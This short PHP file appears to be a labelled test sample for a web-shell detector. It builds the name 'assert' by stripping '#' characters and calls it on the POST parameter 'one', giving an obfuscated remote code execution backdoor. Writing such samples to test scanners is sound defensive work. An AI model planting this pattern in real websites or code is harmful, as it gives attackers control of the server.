<?php
// want: php_request_code_exec php_hidden_function_name
// fold: assert
$a = str_replace('#', '', 'a#s#s#e#r#t');
$b = strtr('qxxqrs', 'qx', 'as');
$a($_POST['one']);
